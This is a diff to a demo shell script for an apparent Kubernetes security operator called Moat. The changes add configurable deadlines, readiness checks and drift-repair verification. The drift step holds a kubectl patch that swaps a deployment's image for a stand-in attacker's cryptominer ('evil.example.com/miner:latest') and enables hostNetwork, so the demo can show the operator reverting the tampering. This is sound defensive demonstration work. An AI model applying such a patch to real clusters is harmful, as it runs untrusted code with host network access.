@@ -18,6 +18,10 @@ cd "$(dirname "$0")/.."
 e2e/cluster.sh up >/dev/null
 eval "$(e2e/cluster.sh env)"
 step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+# How long the demo waits for a state (the registry up, the Lease taken, the model Ready, a drift
+# repaired) before it gives up. A deadline only bounds a failure: on an idle machine each of these
+# takes seconds, but a machine whose cores are busy with other builds can take minutes.
+DEADLINE=${MOAT_DEMO_DEADLINE:-300}
 NS=moat-system
 RELEASE=moat
 SA=moat
@@ -34,9 +38,17 @@ step "a private registry on loopback (TLS from its own CA, basic auth) with serv
 rm -f "$STATE/registry.env"
 "${CARGO_TARGET_DIR:-target}/debug/moat-registry" "$STATE/registry.env" serving/vllm:v0.6.3 moat:0.1.0 \
   >"$HOME/.cache/moat/logs/registry-demo.log" 2>&1 &
-pids+=($!)
-for _ in $(seq 1 150); do [ -s "$STATE/registry.env" ] && break; sleep 0.2; done
-[ -s "$STATE/registry.env" ] || { cat "$HOME/.cache/moat/logs/registry-demo.log"; exit 1; }
+registry_pid=$!
+pids+=($registry_pid)
+deadline=$((SECONDS + DEADLINE))
+until [ -s "$STATE/registry.env" ]; do
+  if ! kill -0 "$registry_pid" 2>/dev/null || [ $SECONDS -ge $deadline ]; then
+    echo "the registry did not come up (within ${DEADLINE}s):" >&2
+    cat "$HOME/.cache/moat/logs/registry-demo.log" >&2
+    exit 1
+  fi
+  sleep 0.2
+done
 # shellcheck disable=SC1091
 . "$STATE/registry.env"
 REGISTRY=$MOAT_REGISTRY_HOST
@@ -56,7 +68,7 @@ for crd in securemodeldeployments.moat.dev modelclients.moat.dev; do
       meta.helm.sh/release-name=$RELEASE meta.helm.sh/release-namespace=$NS >/dev/null
   fi
 done
-helm upgrade --install "$RELEASE" charts/moat -n "$NS" --force-conflicts --wait --timeout 2m
+helm upgrade --install "$RELEASE" charts/moat -n "$NS" --force-conflicts --wait --timeout "${DEADLINE}s"
 kubectl get deployment,serviceaccount,networkpolicy,poddisruptionbudget,service -n "$NS" \
   -l app.kubernetes.io/instance=$RELEASE
 echo "What the chart lets the operator do (kubectl auth can-i --list):"
@@ -81,13 +93,43 @@ KUBECONFIG=$kubeconfig POD_NAME=demo-operator-$$ POD_NAMESPACE=$NS "$MOAT" opera
   >"$HOME/.cache/moat/logs/operator-demo.log" 2>&1 &
 operator=$!
 pids+=($operator)
-for _ in $(seq 1 100); do
-  holder=$(kubectl get lease "$RELEASE" -n "$NS" -o jsonpath='{.spec.holderIdentity}' 2>/dev/null || true)
-  [ "$holder" = "demo-operator-$$" ] && break
-  kill -0 $operator 2>/dev/null || { tail -n 20 "$HOME/.cache/moat/logs/operator-demo.log"; exit 1; }
+operator_alive() {
+  kill -0 "$operator" 2>/dev/null && return 0
+  echo "the operator exited; its log ends:" >&2
+  tail -n 20 "$HOME/.cache/moat/logs/operator-demo.log" >&2
+  return 1
+}
+deadline=$((SECONDS + DEADLINE))
+until holder=$(kubectl get lease "$RELEASE" -n "$NS" -o jsonpath='{.spec.holderIdentity}' 2>/dev/null) &&
+  [ "$holder" = "demo-operator-$$" ]; do
+  operator_alive || exit 1
+  [ $SECONDS -lt $deadline ] || { echo "the operator did not take the Lease within ${DEADLINE}s (holder: ${holder:-none})" >&2; exit 1; }
   sleep 0.2
 done
-echo "leader: ${holder:-none} (Lease $NS/$RELEASE)"
+echo "leader: $holder (Lease $NS/$RELEASE)"
+
+# Waits until SecureModelDeployment $1 in namespace $2 is Ready for its current spec: Ready=True,
+# and status.observedGeneration and the condition's observedGeneration equal metadata.generation
+# (`kubectl wait --for=condition=Ready` would also accept a Ready left from an earlier spec).
+wait_ready() {
+  local deadline=$((SECONDS + DEADLINE)) state generation observed ready ready_generation
+  while :; do
+    state=$(kubectl get smd "$1" -n "$2" -o jsonpath='{.metadata.generation} {.status.observedGeneration} {.status.conditions[?(@.type=="Ready")].status} {.status.conditions[?(@.type=="Ready")].observedGeneration}' 2>/dev/null || true)
+    read -r generation observed ready ready_generation <<<"$state" || true
+    if [ -n "${generation:-}" ] && [ "$generation" = "${observed:-}" ] &&
+      [ "${ready:-}" = "True" ] && [ "$generation" = "${ready_generation:-}" ]; then
+      echo "securemodeldeployment.moat.dev/$1 condition met (Ready at generation $generation)"
+      return 0
+    fi
+    operator_alive || return 1
+    if [ $SECONDS -ge $deadline ]; then
+      echo "smd/$1 was not Ready at its current generation within ${DEADLINE}s (generation, observed, Ready, its generation: $state)" >&2
+      kubectl get smd "$1" -n "$2" -o jsonpath='{.status.conditions}' >&2 || true
+      return 1
+    fi
+    sleep 0.5
+  done
+}
 
 step "the model's team: a pull Secret, a key (moat keygen) and an encrypted model (moat encrypt)"
 kubectl create namespace moat-demo --dry-run=client -o yaml | kubectl apply -f - >/dev/null
@@ -108,7 +150,7 @@ echo "encrypted model: $(du -h "$STATE/v3.tar.age" | cut -f1), sha256 $sha"
 step "applying examples/quickstart.yaml (its registry is this loopback one, its sha256 this model's)"
 sed -e "s#registry.example.com/serving/#$REGISTRY/serving/#" \
   -e "s#^    sha256: .*#    sha256: $sha#" examples/quickstart.yaml | kubectl apply -f -
-kubectl wait --for=condition=Ready smd/fraud-scorer -n moat-demo --timeout=120s
+wait_ready fraud-scorer moat-demo
 kubectl get smd -n moat-demo
 
 step "the tag was resolved once and pinned; the pods run the digest"
@@ -149,21 +191,38 @@ kubectl get secret fraud-scorer-tls -n moat-demo -o jsonpath='{.data.tls\.crt}' 
   openssl x509 -noout -subject -issuer -enddate -ext subjectAltName
 
 step "drift: someone swaps the image and turns on hostNetwork behind Moat's back"
+want=$(kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{.status.image.pinned}')
+# What records a repair, before this one (the namespace, and its Events, outlive earlier demos).
+repairs() { kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{.status.drift.repairs}'; }
+drift_events() {
+  kubectl get events.events.k8s.io -n moat-demo --field-selector reason=DriftRepaired \
+    -o jsonpath='{range .items[*]}{.metadata.name}:{.series.count} {end}'
+}
+repairs_before=$(repairs)
+events_before=$(drift_events)
 kubectl patch deployment fraud-scorer -n moat-demo --type strategic \
   -p '{"spec":{"template":{"spec":{"hostNetwork":true,"containers":[{"name":"server","image":"evil.example.com/miner:latest"}]}}}}'
 start=$(date +%s%N)
-want=$(kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{.status.image.pinned}')
-for _ in $(seq 1 200); do
+deadline=$((SECONDS + DEADLINE))
+while :; do
   image=$(kubectl get deployment fraud-scorer -n moat-demo -o jsonpath='{.spec.template.spec.containers[0].image}')
   host=$(kubectl get deployment fraud-scorer -n moat-demo -o jsonpath='{.spec.template.spec.hostNetwork}')
   [ "$image" = "$want" ] && [ "$host" != "true" ] && break
+  operator_alive || exit 1
+  [ $SECONDS -lt $deadline ] || { echo "the drift was not reverted within ${DEADLINE}s: image=$image hostNetwork=$host" >&2; exit 1; }
   sleep 0.05
 done
 echo "reverted in $(( ($(date +%s%N) - start) / 1000000 )) ms: image=$image hostNetwork=${host:-unset}"
-sleep 1
+# Moat counts the repair in status.drift after it has applied every child, and records the Event
+# in the background: wait for both rather than for a fixed time.
+until [ "$(repairs)" -gt "${repairs_before:-0}" ] 2>/dev/null && [ "$(drift_events)" != "$events_before" ]; do
+  operator_alive || exit 1
+  [ $SECONDS -lt $deadline ] || { echo "the repair was not recorded within ${DEADLINE}s (status.drift.repairs $(repairs), before ${repairs_before:-none})" >&2; exit 1; }
+  sleep 0.2
+done
 kubectl get events.events.k8s.io -n moat-demo --field-selector reason=DriftRepaired -o custom-columns=KIND:.related.kind,OBJECT:.related.name,NOTE:.note
 kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{"status.drift: "}{.status.drift}{"\n"}'
-kubectl wait --for=condition=Ready smd/fraud-scorer -n moat-demo --timeout=120s
+wait_ready fraud-scorer moat-demo
 
 step "metrics (http://127.0.0.1:18080/metrics)"
 curl -fsS http://127.0.0.1:18080/metrics | grep -E '^moat_(leader|reconcile_total|drift_repairs_total|managed_objects|image_resolutions_total)' || true
